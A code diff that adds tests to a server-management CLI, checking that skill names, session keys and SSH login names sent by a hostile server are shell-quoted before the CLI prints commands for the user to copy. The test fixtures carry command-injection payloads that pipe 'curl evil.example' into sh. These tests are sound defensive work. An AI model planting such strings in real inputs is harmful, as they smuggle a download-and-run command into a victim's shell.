@@ -305,3 +305,51 @@ describe('a stranger who calls himself as somebody else who is awaited', () => {
     expect(refused).toMatchObject({ exit: 2, changes: [], err: expect.stringContaining('Anna (666)') });
   });
 });
+
+describe('a hostile server that writes commands for the person to copy', () => {
+  const evil = "x'; curl evil.example | sh #";
+  const quoted = `'x'\\''; curl evil.example | sh #'`;
+
+  test('puts none of its own into the command that installs what a skill needs', async () => {
+    const skill = {
+      ...{ name: evil, key: 'pdf', description: '', source: 'workspace', emoji: null, homepage: null },
+      ...{ enabled: true, eligible: false, blockedByAgent: false, removable: false },
+      missing: { bins: ['pdftotext'], anyBins: [], env: [], config: [], os: [] },
+      installable: [{ installId: evil, kind: 'brew', label: `Install\n$ ${evil}\n`, bins: [] }],
+    };
+    const { err } = await buoy(['openclaw', 'skills', 'enable', 'web', 'pdf'], {
+      'GET /servers/:id/openclaw/skills': { body: { skills: [skill], ...read } },
+      'PUT /servers/:id/openclaw/skills/:name': { body: { skill } },
+    });
+    expect(err).toContain(`buoy openclaw skills install srv_1 ${quoted} --needs ${quoted}\n`);
+    expect(err.split('\n').filter((line) => line.startsWith('$'))).toEqual([]);
+  });
+
+  test('nor into the one that shows the answer of an agent', async () => {
+    const session = {
+      ...{ key: evil, agentId: 'main', label: 'desk', title: null, kind: 'direct', isMain: false },
+      ...{ status: 'done', running: false, activeRunIds: [], pinned: false, archived: false, unread: false },
+      ...{ createdAt: at, updatedAt: at, lastInteractionAt: at, model: null, thinking: null },
+      ...{ thinkingLevels: [], costUsd: null },
+      tokens: { input: null, output: null, total: null, context: null, staleSinceCompaction: false },
+    };
+    const answers = {
+      'GET /servers/:id/openclaw/sessions': { body: { sessions: [session], nextCursor: null, ...read } },
+      'POST /servers/:id/openclaw/sessions/:key/messages': {
+        body: { run: { id: 'run-1', sessionKey: evil, status: 'started' } },
+      },
+    } as const;
+    const { out } = await buoy(['openclaw', 'sessions', 'send', 'web', 'desk', 'Hi', '--no-wait'], answers);
+    expect(out).toBe(`Sent. The answer: buoy openclaw sessions messages srv_1 ${quoted}\n`);
+  });
+
+  test('nor by its login name into the ssh command that is shown where ssh does not start', async () => {
+    const named = { ...server, username: '$(curl$IFS@evil|sh)' };
+    const { err } = await buoy(
+      ['servers', 'ssh', 'web'],
+      { 'GET /servers': { body: { servers: [named], nextCursor: null } } },
+      { ...person, runProgram: () => Promise.reject(new Error('ENOENT')) },
+    );
+    expect(err).toContain("-l '$(curl$IFS@evil|sh)' -- web.example");
+  });
+});
